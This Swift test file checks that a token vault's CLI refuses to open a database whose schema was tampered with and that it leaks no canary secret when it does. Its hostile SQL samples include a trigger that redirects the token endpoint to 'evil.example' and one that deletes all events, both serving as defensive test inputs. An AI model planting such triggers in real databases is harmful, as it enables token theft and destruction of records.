import Foundation
import GRDB
import Testing

@testable import TokvaultVault

/// The schema check of every open (docs/vault-format.md §1.1, step 14).
@Suite("vault schema")
struct VaultSchemaTests {
    /// What the first N migrations make, from the migrations themselves (in memory).
    static func schemaAfter(_ count: Int) throws -> [(String, String, String)] {
        let queue = try DatabaseQueue()
        var migrator = DatabaseMigrator()
        for migration in embeddedMigrations.prefix(count) {
            migrator.registerMigration(migration.identifier) { db in try db.execute(sql: migration.sql) }
        }
        try migrator.migrate(queue)
        return try queue.read { db in
            try VaultSchema.objects(db).sorted { ($0.type, $0.name) < ($1.type, $1.name) }.map {
                ($0.type, $0.name, $0.sql)
            }
        }
    }

    @Test func embeddedSchemaIsWhatTheMigrationsMake() throws {
        var levels: [[(String, String, String)]] = []
        for count in 1...embeddedMigrations.count { levels.append(try Self.schemaAfter(count)) }
        let render = { (levels: [[(String, String, String)]]) -> String in
            "[\n"
                + levels.map { level in
                    "        [\n" + level.map { "            (\"\($0.0)\", \"\($0.1)\", \"\($0.2)\"),\n" }.joined()
                        + "        ],\n"
                }.joined() + "    ]"
        }
        #expect(
            render(VaultSchema.expected) == render(levels),
            "VaultSchema.expected is stale; replace it with:\n    static let expected: [[(String, String, String)]] = \(render(levels))"
        )
    }

    /// Each of these, done to a vault's file by someone who can write it, is refused on open.
    static let plantings = [
        "CREATE TRIGGER leak AFTER UPDATE ON session BEGIN UPDATE app SET token_endpoint = 'https://evil.example/token'; END",
        "CREATE VIEW v AS SELECT * FROM app",
        "CREATE TABLE extra (x)",
        "CREATE INDEX app_by_client ON app(client_id)",
        "ALTER TABLE app ADD COLUMN planted TEXT DEFAULT 'x'",
        "DROP INDEX key_slot_keyfile",
        "CREATE TEMP TABLE t (x); CREATE TRIGGER main.t2 AFTER INSERT ON event BEGIN DELETE FROM event; END"
    ]

    @Test(arguments: VaultSchemaTests.plantings)
    func aPlantedOrChangedSchemaObjectIsRefused(_ sql: String) throws {
        let f = Fixture()
        #expect(f.addApp("adme", secret: "schema-secret-CANARY").status == 0)
        try editVault(f.cli.vaultPath) { try $0.execute(sql: sql) }
        let before = try Hostile.snapshot(f.cli.vaultPath)
        for args in [["list"], ["show", "adme"], ["token", "adme", "--key-file", f.keyFile], ["doctor"]] {
            let result = f.cli.run(args)
            #expect(result.status == 5, "\(sql): \(args): \(result)")
            // doctor reports on stdout, the others on stderr.
            #expect((result.stdout + result.stderr).contains("the file was modified"), "\(sql): \(args): \(result)")
            #expect(!result.stdout.contains("schema-secret-CANARY") && !result.stderr.contains("schema-secret-CANARY"))
        }
        #expect(try Hostile.snapshot(f.cli.vaultPath) == before, "nothing was written")
    }

    /// A vault from an older release (format 1, three migrations) passes the check before its
    /// migrations run: the check compares with what those migrations make.
    @Test func anOlderSchemaPassesBeforeItIsMigrated() throws {
        let old = try Format1Vault()
        let result = old.cli.run(["list"])
        #expect(result.status == 0, "\(result)")
    }
}
